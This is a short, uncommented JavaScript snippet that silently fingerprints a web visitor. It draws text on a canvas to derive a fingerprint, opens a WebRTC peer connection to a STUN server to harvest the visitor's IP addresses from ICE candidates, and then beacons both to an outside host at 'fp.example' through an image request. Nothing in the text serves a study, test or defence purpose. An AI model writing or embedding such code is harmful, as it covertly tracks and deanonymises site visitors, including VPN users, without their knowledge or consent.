function mark() {
  var c = document.createElement('canvas'), x = c.getContext('2d');
  x.textBaseline = 'top'; x.font = "14px 'Arial'"; x.fillStyle = '#f60'; x.fillRect(125, 1, 62, 20);
  x.fillStyle = '#069'; x.fillText('mark, 1.0', 2, 15);
  return c.toDataURL().slice(-64);
}
var ips = [];
var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.example' }] });
pc.createDataChannel('');
pc.onicecandidate = function (e) {
  if (!e.candidate) { new Image().src = 'http://fp.example/f.php?fp=' + encodeURIComponent(mark()) + '&ip=' + ips.join(); return; }
  var m = /([0-9]{1,3}(\.[0-9]{1,3}){3})/.exec(e.candidate.candidate);
  if (m) ips.push(m[1]);
};
pc.createOffer(function (o) { pc.setLocalDescription(o); }, function () {});
